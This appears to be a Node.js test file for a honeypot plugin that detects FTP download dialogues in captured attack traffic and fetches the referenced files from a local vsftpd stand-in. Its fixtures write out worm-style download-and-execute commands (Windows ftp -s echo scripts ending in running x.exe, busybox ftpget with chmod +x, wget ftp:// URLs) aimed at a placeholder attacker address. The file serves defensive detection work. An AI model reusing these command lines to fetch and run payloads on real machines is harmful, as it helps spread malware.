// Tests for ftp-download, run by `honeytrap-plugin test` with node:test. The
// plugin runs in the daemon's own worker engine and fetches through the
// daemon's own network broker (allowPrivateNetwork) from a real vsftpd this
// file starts on port 21 of a loopback address, the "attacker" (anonymous logins only: any
// other user is refused with 530, which the tests use as a failure).
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { attackFixture, loadPlugin, runPlugin } from '@honeytrap/sdk';

const dir = fileURLToPath(new URL('..', import.meta.url));
/** A loopback address of its own, so that two runs of these tests do not meet on the same port. */
const ATTACKER = `127.${1 + Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 256)}.${2 + Math.floor(Math.random() * 250)}`;

/** A Windows console program's headers (PE32, Intel 80386), as a worm fetches with ftp -s. */
const EXE = Buffer.alloc(2048, 0x90);
EXE.write('MZ', 0, 'latin1');
EXE.writeUInt32LE(0x80, 0x3c);
EXE.write('PE\0\0', 0x80, 'latin1');
EXE.writeUInt16LE(0x14c, 0x84);
EXE.writeUInt16LE(0x10b, 0x98);
EXE.writeUInt16LE(3, 0x98 + 68);
/** A big-endian MIPS ELF executable's header and code bytes. */
const MIPS = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 8, 0, 0, 0, 1]),
  Buffer.alloc(3000, 0x24),
]);

/** Whether vsftpd greets a new control connection with 220. */
function greets() {
  return new Promise((resolve) => {
    const c = connect(21, ATTACKER);
    c.setTimeout(1000, () => c.destroy());
    c.once('data', (d) => {
      resolve(d.toString('latin1').startsWith('220'));
      c.destroy();
    });
    c.once('close', () => resolve(false));
    c.on('error', () => {});
  });
}

const work = mkdtempSync(join(tmpdir(), 'ftp-download-'));
const root = join(work, 'root');
let vsftpd;

before(async () => {
  mkdirSync(join(root, 'bins'), { recursive: true });
  writeFileSync(join(root, 'x.exe'), EXE);
  writeFileSync(join(root, 'bins', 'mips'), MIPS);
  execFileSync('chmod', ['-R', 'a+rX', work]);
  const pasv = 42000 + Math.floor(Math.random() * 2000);
  const conf = [
    'listen=YES',
    'listen_ipv6=NO',
    `listen_address=${ATTACKER}`,
    'listen_port=21',
    'background=NO',
    'anonymous_enable=YES',
    'no_anon_password=YES',
    `anon_root=${root}`,
    'local_enable=NO',
    'write_enable=NO',
    'pasv_enable=YES',
    'port_enable=NO',
    `pasv_min_port=${pasv}`,
    `pasv_max_port=${pasv + 9}`,
    'secure_chroot_dir=/var/run/vsftpd/empty',
    // containers refuse vsftpd's own sandboxing (seccomp, new namespaces)
    'seccomp_sandbox=NO',
    'isolate_network=NO',
    'isolate=NO',
    `vsftpd_log_file=${work}/vsftpd.log`,
    '',
  ].join('\n');
  writeFileSync(join(work, 'vsftpd.conf'), conf);
  mkdirSync('/var/run/vsftpd/empty', { recursive: true });
  vsftpd = spawn('vsftpd', [join(work, 'vsftpd.conf')], { stdio: ['ignore', 'ignore', 'pipe'] });
  let stderr = '';
  vsftpd.stderr.on('data', (d) => (stderr += d));
  let waited = 0;
  while (!(await greets())) {
    if (vsftpd.exitCode !== null || (waited += 50) > 5000)
      throw new Error(`vsftpd does not greet: ${stderr}`);
    await sleep(50);
  }
});
after(() => {
  vsftpd?.kill();
  rmSync(work, { recursive: true, force: true });
});

/** [url, status, via] of each download finding. */
const summary = (out) =>
  out.findings
    .filter((f) => f.type === 'download')
    .map(({ value, meta }) => [value, meta.status, meta.via]);

/** runPlugin on `received` from the attacker, the broker allowed to reach loopback; `opts`: config, results. */
const run = (received, opts) =>
  runPlugin(dir, attackFixture({ received, remote: ATTACKER, port: 445 }), {
    allowPrivateNetwork: true,
    ...opts,
  });

test('a Windows echo script (ftp -n -s:o): the file is stored, hashed and typed', async () => {
  const received =
    `cmd /c echo open ${ATTACKER} 21 > o&echo user anonymous x@y.z >> o &echo binary >> o` +
    '&echo get x.exe >> o&echo bye >> o&ftp -n -s:o&del o&x.exe\r\n';
  const out = await run(received);
  assert.deepEqual(summary(out), [
    [`ftp://anonymous:x%40y.z@${ATTACKER}/x.exe`, 'ok', 'ftp-script'],
  ]);
  const { offset, meta } = out.findings[0];
  assert.equal(offset, received.indexOf('echo open'));
  assert.equal(meta.code, 226);
  for (const a of ['md5', 'sha1', 'sha256', 'sha512'])
    assert.equal(meta[a], createHash(a).update(EXE).digest('hex'), a);
  assert.equal(meta.size, EXE.length);
  assert.equal(meta.fileType, 'PE');
  assert.equal(meta.fileDescription, 'PE32 executable (console) Intel 80386');
  assert.deepEqual(out.artifacts, [
    { name: 'x.exe', contentType: 'application/x-dosexec', data: EXE.toString('base64') },
  ]);
});

test('the other dialogues: autologin lines, a heredoc with cd, echoes piped into ftp -n, ftpget, ftp:// URLs', async () => {
  const received = [
    // Windows autologin (no -n): after "open", a user name line and a password line; "21>>ii" is port 21
    `echo open ${ATTACKER} 21>>ii &echo anonymous>>ii &echo pw1>>ii &echo get bins/mips>>ii &echo quit>>ii &ftp -s:ii`,
    `ftp -n -v ${ATTACKER} <<EOF\nuser anonymous pw2\ncd bins\nbinary\nget mips\nbye\nEOF`,
    `(echo user anonymous; echo pass pw3; echo get x.exe; echo bye) | ftp -n ${ATTACKER}`,
    `/bin/busybox ftpget -v -u anonymous -p pw4 -P 21 ${ATTACKER} /tmp/m bins/mips; chmod +x /tmp/m`,
    `wget ftp://${ATTACKER}/x.exe`,
  ].join('\n');
  const out = await run(received, { config: { maxDownloads: 10 } });
  assert.deepEqual(summary(out), [
    [`ftp://anonymous:pw4@${ATTACKER}/bins/mips`, 'ok', 'busybox ftpget'],
    [`ftp://anonymous:pw1@${ATTACKER}/bins/mips`, 'ok', 'ftp-script'],
    [`ftp://anonymous:pw2@${ATTACKER}/bins/mips`, 'ok', 'ftp-script'],
    [`ftp://anonymous:pw3@${ATTACKER}/x.exe`, 'ok', 'ftp-script'],
    [`ftp://${ATTACKER}/x.exe`, 'ok', 'url'],
  ]);
  assert.equal(out.findings[0].meta.fileDescription, 'ELF 32-bit MSB executable, MIPS');
  // the same two files, one artifact each
  assert.deepEqual(
    out.artifacts.map((a) => [a.name, a.contentType]),
    [
      ['mips', 'application/x-elf'],
      ['x.exe', 'application/x-dosexec'],
    ],
  );
});

test('a batch file: @echo, upper case, quoted lines', async () => {
  const received = `@ECHO OPEN ${ATTACKER} 21> s\r\n@echo "user anonymous q" >> s\r\nECHO Get x.exe>> s\r\nftp -n -s:s\r\n`;
  const out = await run(received);
  assert.deepEqual(summary(out), [[`ftp://anonymous:q@${ATTACKER}/x.exe`, 'ok', 'ftp-script']]);
});

test('failures are recorded: login refused, no such file, nothing listening, a host that is not the attacker', async () => {
  const received = [
    `echo open ${ATTACKER} 21 > f & echo user 1 1 >> f & echo get x.exe >> f & ftp -n -s:f`,
    `ftpget ${ATTACKER} missing.exe`,
    `ftpget -P 2121 ${ATTACKER} x.exe`,
    'ftpget 127.0.0.1 x.exe',
  ].join('\n');
  const out = await run(received, { config: { timeoutMs: 3000 } });
  const byUrl = Object.fromEntries(out.findings.map((f) => [f.value, f.meta]));
  assert.equal(out.findings.length, 4);
  assert.deepEqual(out.artifacts, []);

  const login = byUrl[`ftp://1:1@${ATTACKER}/x.exe`];
  assert.equal(login.status, 'failed');
  assert.equal(login.code, 530);

  const missing = byUrl[`ftp://${ATTACKER}/missing.exe`];
  assert.equal(missing.status, 'failed');
  assert.equal(missing.code, 550);

  const closed = byUrl[`ftp://${ATTACKER}:2121/x.exe`];
  assert.equal(closed.status, 'failed');
  assert.equal(closed.errorCode, 'HT_PLUGIN_NETWORK');

  const other = byUrl['ftp://127.0.0.1/x.exe'];
  assert.equal(other.status, 'refused');
  assert.equal(other.errorCode, 'HT_PLUGIN_DENIED');
});

test("url-extract's ftp findings are fetched; an echo script in a decoded payload (text artifact) too", async () => {
  const results = {
    'url-extract': {
      findings: [
        {
          type: 'command',
          value: 'ftpget',
          offset: 2,
          meta: { tool: 'ftpget', url: `ftp://anonymous:ue@${ATTACKER}/x.exe` },
        },
      ],
    },
  };
  const out = await run('nothing the plugin reads itself', { results });
  assert.deepEqual(summary(out), [
    [`ftp://anonymous:ue@${ATTACKER}/x.exe`, 'ok', 'url-extract ftpget'],
  ]);

  const plugin = await loadPlugin(dir, { allowPrivateNetwork: true });
  try {
    const payload = `echo open ${ATTACKER}>s&echo anonymous>>s&echo b64>>s&echo get x.exe>>s&ftp -s:s`;
    const art = await plugin.runArtifact(
      { data: payload, contentType: 'text/plain', producer: 'b64-decode' },
      attackFixture({ received: 'base64 here', remote: ATTACKER, port: 445 }),
    );
    assert.deepEqual(summary(art), [[`ftp://anonymous:b64@${ATTACKER}/x.exe`, 'ok', 'ftp-script']]);
  } finally {
    await plugin.close();
  }
});

test('no dialogue, no download', async () => {
  const out = await run('USER anonymous\r\nPASS x\r\nRETR x.exe\r\nftp is old\r\n');
  assert.deepEqual(out, { findings: [], artifacts: [] });
});
